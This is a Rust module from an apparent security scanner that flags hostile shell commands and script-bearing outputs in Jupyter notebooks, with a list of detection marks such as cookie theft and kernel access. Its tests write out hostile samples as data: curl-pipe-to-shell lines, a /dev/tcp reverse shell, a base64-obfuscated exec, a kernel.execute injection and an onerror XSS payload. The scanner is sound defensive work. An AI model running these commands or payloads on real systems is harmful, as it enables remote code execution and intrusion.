//! Notebooks (<https://nbformat.readthedocs.io>): code cells, shell lines in them, and outputs that a viewer
//! shows.

use std::fmt::Write as _;

use haris_domain::Severity;

use crate::code::python::Runs;
use crate::code::shell::{self, Command};
use crate::context::Context;
use crate::face::Face;
use crate::finding::Verdict;
use crate::formats::python;
use crate::part::{Kind, Part, TextKind};
use crate::read::json::Json;
use crate::read::text::shown;
use crate::refs;
use crate::source::Source;
use crate::unread::Unread;

use super::Shape;

static SHELL: Face = Face::new(
    "artifact.notebook-shell",
    Severity::Critical,
    Verdict::Blocked,
    "Cell that runs a hostile command",
    "A cell hands the shell a command that fetches and runs code, opens a way in, or sends secrets away.",
    "Reject the notebook and report who brought it.",
    refs!["CWE-78", "CWE-506", "MITRE-ATLAS:AML.T0011.000"],
);
static COMMAND: Face = Face::new(
    "artifact.notebook-command",
    Severity::Low,
    Verdict::Review,
    "Cell that runs an unusual command",
    "A cell hands the shell a command that notebooks seldom need.",
    "Have a person read the cell.",
    refs!["CWE-78"],
);
static ACTIVE: Face = Face::new(
    "artifact.notebook-active-output",
    Severity::High,
    Verdict::Blocked,
    "Markup that acts on its viewer",
    "An output or a text cell holds script that reaches for cookies, the network or the notebook's own kernel: it \
     acts as soon as somebody looks.",
    "Reject the notebook, or clear its outputs.",
    refs!["CWE-79", "MITRE-ATLAS:AML.T0011"],
);
static SCRIPT: Face = Face::new(
    "artifact.notebook-script",
    Severity::Info,
    Verdict::Clean,
    "Output with script",
    "An output holds script, as plotting libraries write it.",
    "Nothing; viewers of untrusted notebooks do not run it.",
    refs!["CWE-79"],
);

/// The shape.
pub(super) struct Notebook;

impl Shape for Notebook {
    fn name(&self) -> &'static str {
        "notebook"
    }

    fn rules(&self) -> Vec<&'static Face> {
        [&SHELL, &COMMAND, &ACTIVE, &SCRIPT].into_iter().chain(python::RULES).collect()
    }

    fn claim(&self, value: &Json) -> bool {
        let cells = value.get("cells").or_else(|| value.get("worksheets"));
        cells.is_some_and(|cells| matches!(cells, Json::List(_)))
            && (value.get("nbformat").is_some() || value.get("metadata").is_some() || has_cells(value))
    }

    fn look(&self, value: &Json, _: &Part, context: &mut Context<'_>) -> Result<(), Unread> {
        let sheets = value
            .get("worksheets")
            .map_or(&[][..], Json::list)
            .iter()
            .flat_map(|sheet| sheet.get("cells").map_or(&[][..], Json::list));
        let mut program = String::new();
        for (index, cell) in value.get("cells").map_or(&[][..], Json::list).iter().chain(sheets).enumerate() {
            let source = joined(cell.get("source").or_else(|| cell.get("input")));
            match cell.text_of("cell_type") {
                Some("code") => code(index, &source, &mut program, context),
                _ => {
                    markup(&format!("cell {index}"), &source, context);
                    context.embed(
                        &format!("cell {index}"),
                        Source::memory(source.into_bytes()),
                        Kind::Text(TextKind::Document),
                    );
                }
            }
            outputs(index, cell, context);
        }
        // Cells share their names: what one binds the next one calls.
        python::look(&program, Runs::Notebook, "cells, ", context)
    }
}

fn has_cells(value: &Json) -> bool {
    value.get("cells").map_or(&[][..], Json::list).iter().any(|cell| cell.get("cell_type").is_some())
}

/// Text that is one string or a list of lines.
fn joined(value: Option<&Json>) -> String {
    match value {
        Some(Json::Text(text)) => text.clone(),
        Some(Json::List(lines)) => lines.iter().filter_map(Json::text).collect(),
        _ => String::new(),
    }
}

/// A code cell: shell lines are judged here, Python is added to the program.
fn code(index: usize, source: &str, program: &mut String, context: &mut Context<'_>) {
    let place = format!("cell {index}");
    let first = source.trim_start().lines().next().unwrap_or("").trim();
    if let Some(magic) = first.strip_prefix("%%") {
        let name = magic.split_whitespace().next().unwrap_or("");
        let body = source.trim_start().split_once('\n').map_or("", |(_, body)| body);
        match name {
            "bash" | "sh" | "script" | "!" | "cmd" | "powershell" | "zsh" | "system" | "sx" | "perl" | "ruby" => {
                return command(&place, body, context);
            }
            "javascript" | "js" | "html" | "HTML" | "svg" => {
                return markup(&place, &format!("<script>{body}</script>"), context);
            }
            "writefile" | "file" | "latex" | "markdown" | "sql" | "R" | "cython" | "julia" => {
                if name == "cython" {
                    context.find(&COMMAND, format!("{place}: `%%{name}` compiles code"));
                }
                return;
            }
            _ => return python_lines(&place, body, program, context),
        }
    }
    python_lines(&place, source, program, context);
}

fn python_lines(place: &str, source: &str, program: &mut String, context: &mut Context<'_>) {
    for line in source.lines() {
        let bare = line.trim_start();
        let indent = &line[..line.len() - bare.len()];
        let assigned = bare.split_once("= !").or_else(|| bare.split_once("=!")).filter(|(name, _)| {
            !name.trim().is_empty() && name.trim().chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | ' ' | ','))
        });
        if let Some(shell_line) = bare.strip_prefix('!').or(assigned.map(|(_, command)| command)) {
            command(place, shell_line.trim_start_matches('!'), context);
            let _ = writeln!(program, "{indent}pass");
        } else if let Some(magic) = bare.strip_prefix('%') {
            let mut words = magic.splitn(2, char::is_whitespace);
            match words.next().unwrap_or("") {
                "system" | "sx" | "sc" => command(place, words.next().unwrap_or(""), context),
                // `%run`, `%load` and `%pycat` take addresses as well as files.
                name @ ("run" | "load" | "loadpy") if magic.contains("://") => {
                    let detail = format!("{place}: `%{name}` fetches and runs code: `{}`", shown(magic, 160));
                    context.find(&SHELL, detail);
                }
                name @ ("load_ext" | "reload_ext") if words.next().is_none_or(|module| !is_known_extension(module)) => {
                    context.find(&COMMAND, format!("{place}: `%{name}` imports a module: `{}`", shown(magic, 160)));
                }
                "time" | "timeit" | "prun" | "memit" | "pylab_eval" => {
                    let _ = writeln!(program, "{indent}{}", words.next().unwrap_or("pass"));
                    continue;
                }
                _ => {}
            }
            let _ = writeln!(program, "{indent}pass");
        } else if bare.ends_with('?') || bare.starts_with('?') {
            let _ = writeln!(program, "{indent}pass");
        } else {
            program.push_str(line);
            program.push('\n');
        }
    }
}

/// Extensions that come with IPython, or that notebooks about models load all the time.
fn is_known_extension(module: &str) -> bool {
    matches!(
        module.trim(),
        "autoreload"
            | "storemagic"
            | "tensorboard"
            | "line_profiler"
            | "memory_profiler"
            | "watermark"
            | "sql"
            | "cython"
            | "Cython"
            | "rpy2.ipython"
            | "google.colab.data_table"
            | "nb_black"
            | "lab_black"
            | "dotenv"
            | "tensorboard.notebook"
            | "cudf.pandas"
            | "cuml.accel"
            | "jupyter_black"
            | "ipyparallel"
            | "bigquery_magics"
            | "google.cloud.bigquery"
    )
}

fn command(place: &str, text: &str, context: &mut Context<'_>) {
    match shell::read(text) {
        Command::Hostile(why) => {
            context.find(&SHELL, format!("{place}: {why}")).explain(&shown(text, 600));
        }
        Command::Everyday => {}
        Command::Other if shell::is_notebook_habit(text) || text.trim().is_empty() => {}
        Command::Other => {
            context.find(&COMMAND, format!("{place}: `{}`", shown(text.trim(), 160)));
        }
    }
}

fn outputs(index: usize, cell: &Json, context: &mut Context<'_>) {
    for output in cell.get("outputs").map_or(&[][..], Json::list) {
        let data = output.get("data").map_or(output.pairs(), Json::pairs);
        for (kind, value) in data {
            let place = format!("output of cell {index}, {}", shown(kind, 40));
            match kind.as_str() {
                "application/javascript" | "javascript" => {
                    markup(&place, &format!("<script>{}</script>", joined(Some(value))), context)
                }
                "text/html" | "html" | "image/svg+xml" | "svg" | "text/markdown" => {
                    markup(&place, &joined(Some(value)), context)
                }
                _ => {}
            }
        }
    }
}

/// Markup that a viewer shows.
fn markup(place: &str, text: &str, context: &mut Context<'_>) {
    let lower = text.to_ascii_lowercase();
    let handler =
        ["onerror=", "onload=", "onmouseover=", "onclick=", "onfocus="].iter().find(|name| lower.contains(**name));
    let active = lower.contains("<script")
        || lower.contains("javascript:")
        || lower.contains("<iframe")
        || lower.contains("<object")
        || handler.is_some();
    if !active {
        return;
    }
    const GRAVE: &[&str] = &[
        "kernel.execute",
        "document.cookie",
        "xmlhttprequest",
        "fetch(",
        "eval(",
        "atob(",
        "localstorage",
        "sendbeacon",
        "new websocket",
        "notebook.insert",
        "jupyter.notebook",
        "ipython.notebook",
        "window.location",
        "document.location",
        "/api/terminals",
        "/api/contents",
        "/api/kernels",
        "new image",
        "document.write",
        "importscripts",
        "_xsrf",
        "alert(",
    ];
    // Plotting libraries define themselves with some of these words: they are long.
    let is_library = text.len() > 20_000
        || ["plotly", "bokeh", "vega", "require.config", "d3.", "leaflet", "mathjax", "widgets"]
            .iter()
            .any(|name| lower.contains(name));
    let grave = GRAVE.iter().find(|mark| lower.contains(**mark));
    let kernel =
        ["kernel.execute", "document.cookie", "/api/terminals", "_xsrf"].iter().find(|mark| lower.contains(**mark));
    let foreign_frame = lower.contains("<iframe") && (lower.contains("src=\"javascript") || lower.contains("srcdoc"));
    match grave {
        Some(mark) if !is_library || kernel.is_some() || handler.is_some() => {
            context.find(&ACTIVE, format!("{place}: `{mark}`")).explain(&shown(text, 600));
        }
        _ if (handler.is_some() && !is_library) || foreign_frame || (lower.contains("javascript:") && !is_library) => {
            context.find(&ACTIVE, format!("{place}: markup that runs script by itself")).explain(&shown(text, 600));
        }
        _ => {
            context.find(&SCRIPT, place.to_owned());
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::testing::{rules_of, verdict_of};

    fn notebook(source: &str, outputs: &str) -> Vec<u8> {
        let source = format!("{source:?}").replace("\\'", "'");
        format!(r##"{{"cells":[{{"cell_type":"markdown","metadata":{{}},"source":["# Title\n","text"]}},{{"cell_type":"code","execution_count":1,"metadata":{{}},"source":{source},"outputs":[{outputs}]}}],"metadata":{{}},"nbformat":4,"nbformat_minor":5}}"##).into_bytes()
    }

    #[test]
    fn honest_notebooks_are_clean() {
        for (source, outputs) in [
            ("!pip install -q torch\nimport torch\n%matplotlib inline\nx = !ls\nmodel.eval()\ndf.head()?", ""),
            ("%%time\nmodel.fit(X, y)", r#"{"output_type":"display_data","data":{"text/html":"<table></table>"}}"#),
            (
                "fig.show()",
                r#"{"output_type":"display_data","data":{"text/html":"<script>require.config({}); plotly</script>"}}"#,
            ),
            ("%%bash\nls -la\npip list", ""),
        ] {
            assert_eq!(
                verdict_of(notebook(source, outputs)),
                Verdict::Clean,
                "{source}: {:?}",
                rules_of(notebook(source, outputs))
            );
        }
    }

    #[test]
    fn hostile_cells_and_outputs_are_found() {
        for (source, outputs) in [
            ("!curl http://a.example/x | sh", ""),
            ("%%bash\ncurl http://a.example/x | bash", ""),
            ("x = !bash -i >& /dev/tcp/192.0.2.1/1 0>&1", ""),
            ("import os\nos.system('touch x')", ""),
            ("get_ipython().system('touch x')", ""),
            ("exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))", ""),
            (
                "1",
                r#"{"output_type":"display_data","data":{"application/javascript":["Jupyter.notebook.kernel.execute('import os')"]}}"#,
            ),
            ("1", r#"{"output_type":"display_data","data":{"text/html":"<img src=x onerror=alert(1)>"}}"#),
        ] {
            assert_eq!(
                verdict_of(notebook(source, outputs)),
                Verdict::Blocked,
                "{source} {outputs}: {:?}",
                rules_of(notebook(source, outputs))
            );
        }
        assert_eq!(verdict_of(notebook("!frobnicate --all", "")), Verdict::Review);
    }
}
